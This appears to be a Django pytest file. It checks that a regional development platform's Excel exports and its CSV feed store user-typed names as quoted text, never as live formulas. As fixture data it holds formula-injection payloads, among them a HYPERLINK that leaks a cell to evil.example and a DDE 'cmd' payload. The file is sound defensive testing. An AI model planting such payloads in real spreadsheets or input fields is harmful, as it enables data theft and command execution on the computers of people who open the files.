"""No cell of any workbook the platform exports holds a formula that came from user text (issue 16, point 2).

Text that people type (town and district names, project names and their monthly notes, indicator names,
scheme items, run titles, member units, working groups) is set to formula-looking strings; then every export
the platform offers is downloaded through its page or API and opened with openpyxl as written
(load_workbook, not read-only, data_only=False). No cell may be a formula, each text must read back as it was
stored, and a text starting with a formula trigger must carry Excel's quote prefix (tianjin_towns/lib/excel.py
explains the choice). `test_every_export_is_covered_here` keeps the list of exports complete.

The one CSV, the data-sharing feed's (issue 18), quotes such text the same way.
"""

import datetime
import io
import re
from decimal import Decimal

import pytest
from django.urls import URLResolver, get_resolver, reverse
from openpyxl import Workbook, load_workbook

from assessments import services as assessment
from assessments.tests.factories import score_manual, set_targets
from conftest import FULL_VALUES
from coordination import services as org
from coordination.models import ExportJob, MemberUnit, WorkingGroup
from ledgers import services as ledger
from ledgers import tasks as ledger_tasks
from ledgers.models import Indicator, Project
from tests.assessing import three_item_scheme
from tianjin_towns.lib import excel

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
YEAR = 2026
SEPT = datetime.date(2026, 9, 1)

# What each field is set to; every export must show each of its fields exactly so, and as text.
DISTRICT_NAME = "-2+3"
TOWN_NAME = "=1+1"
PROJECT_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")'
PROJECT_CODE = "+cmd|' /C calc'!A0"
PHYSICAL_PROGRESS = "=1+1"
PROJECT_PROBLEMS = "@SUM(A1)"
INDICATOR_NAME = "@SUM(B2)"  # shown in headers as "@SUM(B2)（万元）"
MEMBER_UNIT_NAME = "+cmd|' /C calc'!A0"
WORKING_GROUP_NAME = "=1+1"
RUN_TITLE = '=HYPERLINK("http://evil.example/","考核")'
MANUAL_ITEM_NAME = "-1+1"


@pytest.fixture
def poisoned(world, settings, tmp_path, on_day):
    """The world with formula-looking text in every field an export shows, and data behind each export."""
    on_day(datetime.date(2026, 10, 12))  # September is filed within its month, before the close day
    settings.MEDIA_ROOT = tmp_path
    u = world.users
    day = datetime.date(2026, 11, 1)
    org.org_unit_rename(actor=u.admin, unit=world.dongli, name=DISTRICT_NAME, changed_on=day)
    org.org_unit_rename(actor=u.admin, unit=world.town.unit, name=TOWN_NAME, changed_on=day)
    investment = Indicator.objects.get(code="fixed_asset_investment")
    ledger.indicator_update(actor=u.admin, indicator=investment, name=INDICATOR_NAME)
    org.member_unit_update(actor=u.admin, member_unit=MemberUnit.objects.get(code="statistics"), name=MEMBER_UNIT_NAME)
    WorkingGroup.objects.filter(code="policy").update(name=WORKING_GROUP_NAME)  # no page renames a group

    # 项目台账: a project of the town with an accepted month of progress.
    project = ledger.project_create(
        actor=u.officer,
        town=world.town,
        code=PROJECT_CODE,
        name=PROJECT_NAME,
        category=Project.Category.INDUSTRY,
        total_investment=Decimal("50000"),
        year_plans=[{"year": YEAR, "amount": Decimal("12000")}],
        status=Project.Status.CONTINUING,
    )
    # The town's investment is its projects' (a hard rule at submission).
    values = {code: "0" for code in FULL_VALUES} | {"fixed_asset_investment": "300", "tax_revenue": "10"}
    report = ledger.monthly_report_create(actor=u.officer, town=world.town, period=SEPT)
    progress = [
        {
            "project": project.pk,
            "investment_month": "300",
            "physical_progress": PHYSICAL_PROGRESS,
            "problems": PROJECT_PROBLEMS,
        }
    ]
    ledger.monthly_report_save(actor=u.officer, report=report, values=values, progress=progress)
    ledger.monthly_report_submit(actor=u.officer, report=report)
    ledger.monthly_report_approve(actor=u.reviewer, report=report)
    ledger.monthly_report_accept(actor=u.office_policy, report=report)

    # 考核结果: a run over a scheme whose manual item has a formula-looking name.
    on_day(datetime.date(2026, 11, 20))  # the half-year is over
    set_targets(world, world.town, YEAR, fixed_asset_investment="1200")
    scheme = three_item_scheme(
        world,
        YEAR,
        investment=("固定资产投资完成率", 60),
        timeliness=("月报及时率", 20),
        manual=(MANUAL_ITEM_NAME, 20),
        guidance="亮点工作",
    )
    run = assessment.run_create(actor=u.office_assess, scheme=scheme, kind="semiannual", title=RUN_TITLE)
    score_manual(world, run, world.town, 10, why="=1+1")
    return run


def _opened(content: bytes):
    return load_workbook(io.BytesIO(content), read_only=False, data_only=False)


def _assert_user_text_is_text(content: bytes, expected: set[str]) -> set[str]:
    """No cell is a formula, every text starting with a trigger has the quote prefix, and each expected text
    is shown exactly as stored in some cell."""
    workbook = _opened(content)
    texts = set()
    for ws in workbook.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{ws.title}!{cell.coordinate} is a formula: {cell.value!r}"
                if isinstance(cell.value, str):
                    assert cell.data_type == "s", (ws.title, cell.coordinate, cell.value)
                    texts.add(cell.value)
                    if cell.value[:1] in excel.FORMULA_TRIGGERS:
                        assert cell.quotePrefix, f"{ws.title}!{cell.coordinate} {cell.value!r} has no quote prefix"
    assert expected <= texts, expected - texts
    return texts


LEDGER_TEXTS = {
    DISTRICT_NAME,
    TOWN_NAME,
    PROJECT_NAME,
    PROJECT_CODE,
    PHYSICAL_PROGRESS,
    PROJECT_PROBLEMS,
    f"{INDICATOR_NAME}（万元）",
}


def _download(response) -> bytes:
    assert response.status_code == 200, response.content[:500]
    assert response["Content-Type"].startswith(XLSX)
    return b"".join(response.streaming_content) if response.streaming else response.content


def test_ledger_workbook_page_download(client, world, poisoned, settings):
    """/ledger/export/ (ledger-export), written at once: 月度指标台账 and 项目台账."""
    settings.EXPORT_BACKGROUND_ROWS = 1_000_000
    client.force_login(world.users.office_policy)
    content = _download(client.get(reverse("ledger-export"), {"year": YEAR}))
    _assert_user_text_is_text(content, LEDGER_TEXTS)


def test_ledger_workbook_background_job_download(client, world, poisoned, settings, monkeypatch):
    """/ledger/export/ above the row threshold → export job → /exports/<pk>/download/ (export-job-download)."""
    settings.EXPORT_BACKGROUND_ROWS = 1
    queued = []
    monkeypatch.setattr(ledger_tasks.export_ledger, "apply_async", lambda args, **options: queued.append(args[0]))
    client.force_login(world.users.office_policy)
    response = client.get(reverse("ledger-export"), {"year": YEAR})
    job = ExportJob.objects.get(pk=queued[0])
    assert response.status_code == 302
    ledger.ledger_export_run(job_id=job.pk)
    content = _download(client.get(reverse("export-job-download", args=[job.pk])))
    _assert_user_text_is_text(content, LEDGER_TEXTS)


def test_ledger_workbook_over_the_api(api, world, poisoned):
    """GET /api/v1/ledgers/export/ (api-ledger-export) with Accept: xlsx."""
    response = api(world.users.office_policy).get(reverse("api-ledger-export"), {"year": YEAR}, HTTP_ACCEPT=XLSX)
    _assert_user_text_is_text(_download(response), LEDGER_TEXTS)


def test_assessment_results_workbook(client, world, poisoned):
    """/assessments/runs/<pk>/export/ (assessment-run-export): 考核结果 and 得分明细."""
    client.force_login(world.users.office_assess)
    content = _download(client.get(reverse("assessment-run-export", args=[poisoned.pk])))
    texts = _assert_user_text_is_text(content, {DISTRICT_NAME, TOWN_NAME, MANUAL_ITEM_NAME, f"{RUN_TITLE}结果"})
    assert any(text.startswith(f"{MANUAL_ITEM_NAME}（") for text in texts)  # the item's column header


def test_annual_target_template(client, world, poisoned):
    """/assessments/targets/template/ (assessment-target-template), prefilled with the towns and their targets."""
    client.force_login(world.users.office_assess)
    content = _download(client.get(reverse("assessment-target-template"), {"year": YEAR}))
    _assert_user_text_is_text(content, {DISTRICT_NAME, TOWN_NAME, f"{INDICATOR_NAME}（万元）"})


def test_user_import_template(client, world, poisoned):
    """/system/users/import/template.xlsx (user-import-template): its drop-down lists of units, groups and
    member units."""
    client.force_login(world.users.office_policy)
    content = _download(client.get(reverse("user-import-template")))
    _assert_user_text_is_text(content, {DISTRICT_NAME, TOWN_NAME, WORKING_GROUP_NAME, MEMBER_UNIT_NAME})


def test_figure_check_template(client, world, poisoned):
    """/checks/template/ (figure-check-template): the member unit's sheet of the towns' accepted figures."""
    stats = MemberUnit.objects.get(code="statistics")
    tax = Indicator.objects.get(code="tax_revenue")
    ledger.indicator_sources_set(actor=None, assignments={tax: (stats, None)})
    client.force_login(world.users.liaison)
    query = {"period": f"{SEPT:%Y-%m}", "indicator": "tax_revenue"}
    content = _download(client.get(reverse("figure-check-template"), query))
    _assert_user_text_is_text(content, {DISTRICT_NAME, TOWN_NAME, f"{MEMBER_UNIT_NAME}数据核对表"})


def test_accepted_figures_feed_as_csv(client, world, poisoned):
    """/api/v1/accepted-figures/ with Accept: text/csv (api-accepted-figures): names quoted as in a workbook."""
    import csv

    client.force_login(world.users.leader)
    response = client.get("/api/v1/accepted-figures/", HTTP_ACCEPT="text/csv")
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert rows and {row["town_name"] for row in rows} == {"'" + TOWN_NAME}
    assert {row["district_name"] for row in rows} == {"'" + DISTRICT_NAME}


# Every route that hands out a file the platform writes, and where it is checked. Word documents hold no
# formulas; files people uploaded are theirs, given back byte for byte.
EXPORT_ROUTES = {
    "ledger-export": "test_ledger_workbook_page_download",
    "export-job-download": "test_ledger_workbook_background_job_download",
    "api-ledger-export": "test_ledger_workbook_over_the_api",
    "assessment-run-export": "test_assessment_results_workbook",
    "assessment-target-template": "test_annual_target_template",
    "user-import-template": "test_user_import_template",
    "figure-check-template": "test_figure_check_template",
    "export-job-detail": "a page (the job's progress), not a file",
    "export-job-progress": "a page fragment, not a file",
    "meeting-minutes-docx": "Word document",
    "inspection-circular-docx": "Word document",
    "assessment-run-briefing-docx": "Word document",
    "assessment-run-circular-docx": "Word document",
    "evidence-download": "an uploaded file, returned as uploaded",
    "security-audit-export": "coordination/tests/test_security_audit_pages.py (a formula typed at sign-in)",
}


def _routes(patterns, prefix=""):
    for pattern in patterns:
        if isinstance(pattern, URLResolver):
            yield from _routes(pattern.url_patterns, prefix + str(pattern.pattern))
        else:
            yield prefix + str(pattern.pattern), pattern.name


def test_every_export_is_covered_here():
    """A new export, template or file download must be added to EXPORT_ROUTES (and tested above if a workbook)."""
    found = {
        name
        for route, name in _routes(get_resolver().url_patterns)
        if not route.startswith("admin/")
        and re.search(r"export|template|xlsx|csv|docx|download", f"{route} {name or ''}", re.IGNORECASE)
    }
    assert found == set(EXPORT_ROUTES)
    for name, where in EXPORT_ROUTES.items():
        assert not where.startswith("test_") or where in globals(), name


# --- The helper -----------------------------------------------------------------------------------------------

DANGEROUS = ["=1+1", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1", PROJECT_NAME]


def _written(values, *, write_only: bool):
    """Write `values` in one row as the exporters do, save, and open the file again: the row's cells."""
    workbook = Workbook(write_only=write_only)
    if write_only:
        ws = workbook.create_sheet("表")
        ws.append([excel.styled_cell(ws, value) for value in values])
    else:
        ws = workbook.active
        for column, value in enumerate(values, start=1):
            excel.text_cell(ws.cell(row=1, column=column, value=value))
    output = io.BytesIO()
    workbook.save(output)
    return list(_opened(output.getvalue()).worksheets[0].iter_rows())[0]


@pytest.mark.parametrize("write_only", [True, False], ids=["styled_cell", "text_cell"])
def test_dangerous_text_is_written_as_quoted_text_and_reads_back_unchanged(write_only):
    cells = _written([*DANGEROUS, "#N/A", "华明智能制造小镇"], write_only=write_only)
    assert [cell.value for cell in cells] == [*DANGEROUS, "#N/A", "华明智能制造小镇"]
    assert all(cell.data_type == "s" for cell in cells)  # no formula, no error value
    assert [cell.quotePrefix for cell in cells] == [True] * len(DANGEROUS) + [False, False]


@pytest.mark.parametrize("write_only", [True, False], ids=["styled_cell", "text_cell"])
def test_numbers_stay_numbers(write_only):
    values = [Decimal("-12.50"), -3, 2.5, 0, Decimal("1200")]
    cells = _written(values, write_only=write_only)
    assert [cell.data_type for cell in cells] == ["n"] * len(values)
    assert [Decimal(str(cell.value)) for cell in cells] == [Decimal(str(v)) for v in values]
    assert not any(cell.quotePrefix for cell in cells)


def test_the_shared_style_is_not_changed_by_one_quoted_cell():
    """The quote prefix goes on the one cell: the next plain cell of the same style has none."""
    cells = _written(["=1+1", "华明", "-1"], write_only=True)
    assert [cell.quotePrefix for cell in cells] == [True, False, True]
    quoted, plain = cells[0]._style, cells[1]._style
    assert (quoted.fontId, quoted.fillId, quoted.borderId) == (plain.fontId, plain.fillId, plain.borderId)
